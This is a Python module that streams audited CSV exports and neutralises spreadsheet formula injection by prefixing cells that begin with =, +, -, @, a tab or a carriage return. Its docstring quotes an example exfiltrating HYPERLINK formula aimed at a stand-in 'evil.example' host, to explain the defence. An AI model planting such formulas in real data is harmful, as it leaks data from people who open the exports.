"""CSV downloads: every export goes through ``csv_download`` so each one is formula-safe and
audited, and streamed: the rows (already read) are written a quarter of a megabyte at a time,
so the first bytes leave early and the whole file is never held twice.

A cell such as ``=HYPERLINK("https://evil.example?"&A2, "Open")`` typed into a contact's name
runs as a formula when the export is opened in Excel or LibreOffice (CSV injection, OWASP). A
text cell starting with ``= + - @``, a tab or a carriage return gets a leading ``'``, which
spreadsheets read as "this is text" and do not show. Numbers are written as numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator, Mapping, Sequence
from typing import Any

from fastapi.responses import StreamingResponse
from sqlalchemy.orm import Session

from tenure.auth import audit
from tenure.auth.permissions import Actor

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_FORMULA_FIRST = frozenset(FORMULA_STARTS)  # one character each


def spreadsheet_safe(value: Any) -> Any:
    """A cell value no spreadsheet will run as a formula; None becomes an empty cell; a float
    rounded as a person reads it (money and counts to 2 decimals, shares and probabilities
    under 1 to 4), never 0.15318376547480902.

    >>> [spreadsheet_safe(v) for v in ["=1+1", "-2", "@SUM(A1)", "Acme", -2, None]]
    ["'=1+1", "'-2", "'@SUM(A1)", 'Acme', -2, '']
    >>> [spreadsheet_safe(v) for v in [0.15318376547480902, 118925.004999, 2.0, -0.00004]]
    [0.1532, 118925.0, 2.0, 0.0]
    """
    return safe_cells((value,))[0]


def safe_cells(row: Iterable[Any]) -> list[Any]:
    """:func:`spreadsheet_safe` of each value of a row, in one pass: an export writes hundreds
    of thousands of cells, and a call per cell cost more than the work."""
    first = _FORMULA_FIRST
    return [
        ("'" + value if value[:1] in first else value)
        if isinstance(value, str)
        else round(value, 2 if value >= 1.0 or value <= -1.0 else 4) + 0.0  # + 0.0: no "-0.0"
        if isinstance(value, float)
        else ""
        if value is None
        else value
        for value in row
    ]


def csv_text(columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> tuple[str, int]:
    """The CSV (header first) and how many rows it holds."""
    values = [[row[column] for column in columns] for row in rows]
    return "".join(csv_chunks(columns, values)), len(values)


# Characters per chunk: each chunk is one hop from the worker thread to the event loop and one
# compressed write (500 rows a chunk made an export of 8,540 contacts 18 hops).
CHUNK_CHARS = 256 * 1024


def csv_chunks(columns: Sequence[str], rows: Iterable[Sequence[Any]]) -> Iterator[str]:
    """The CSV a chunk at a time: the header, then about ``CHUNK_CHARS`` characters of rows per
    chunk; each row's values in the columns' order, made spreadsheet-safe."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(columns)
    for row in rows:
        writer.writerow(safe_cells(row))
        if buffer.tell() >= CHUNK_CHARS:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue()


def csv_download(
    db: Session,
    actor: Actor,
    *,
    export: str,
    filename: str,
    columns: Sequence[str],
    rows: Sequence[Sequence[Any]],
    filters: Mapping[str, Any],
) -> StreamingResponse:
    """The download, recorded in the audit log as ``export.csv`` with its filters and size.
    ``rows`` are the values of each row in the columns' order."""
    audit.record(
        db, actor, "export.csv", export, None, after={"rows": len(rows), "filters": dict(filters)}
    )
    return StreamingResponse(
        csv_chunks(columns, rows),
        media_type="text/csv; charset=utf-8",
        headers={"Content-Disposition": f'attachment; filename="{filename}"'},
    )
